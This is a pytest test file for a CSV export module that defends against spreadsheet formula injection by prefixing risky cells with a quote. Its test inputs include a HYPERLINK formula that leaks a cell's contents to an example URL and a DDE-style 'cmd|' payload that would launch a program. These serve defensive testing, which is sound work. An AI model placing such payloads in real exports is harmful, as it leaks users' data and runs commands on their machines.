"""CSV downloads: a cell that a spreadsheet would run as a formula gets a leading quote; every other cell is kept."""

from __future__ import annotations

import csv
import io

import pytest

from lms.csv_export import defuse_cell, render_csv, render_csv_lines


@pytest.mark.parametrize(
    "value",
    [
        "=1+1",
        '=HYPERLINK("http://example.com?leak="&A1,"Click")',
        "+SUM(A1:A9)",
        "-2+3+cmd|' /C calc'!A0",
        "-5",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "=",
    ],
)
def test_a_cell_starting_like_a_formula_gets_a_leading_quote(value):
    assert defuse_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    [
        "Alice Archer",
        "alice@example.org",
        "1-2",
        "1=3",
        "19.00 %",
        "Test | Foo",
        " =1+1",  # a leading space is not a formula start
        "'=already quoted",
        "7KQ2-M9XD-4TRW-H",
        "https://lms.example.org/verify/7KQ2-M9XD-4TRW-H",
        "",
    ],
)
def test_a_safe_cell_is_left_alone(value):
    assert defuse_cell(value) == value


@pytest.mark.parametrize(("value", "text"), [(None, ""), (42, "42"), (87.5, "87.5"), (-3, "'-3")])
def test_other_values_become_text_first(value, text):
    assert defuse_cell(value) == text


def test_rows_become_crlf_lines_one_at_a_time_with_every_cell_defused():
    rows = [["Name", "Score"], ["=cmd", 3], ['Say "hi", Bob', None], ["\tTabbed", "-1"]]
    lines = list(render_csv_lines(rows))
    assert len(lines) == 4 and all(line.endswith("\r\n") for line in lines)
    assert lines[1] == "'=cmd,3\r\n"
    assert list(csv.reader(io.StringIO("".join(lines)))) == [
        ["Name", "Score"],
        ["'=cmd", "3"],
        ['Say "hi", Bob', ""],
        ["'\tTabbed", "'-1"],
    ]
    assert render_csv(rows) == "".join(lines)
    assert render_csv([]) == ""
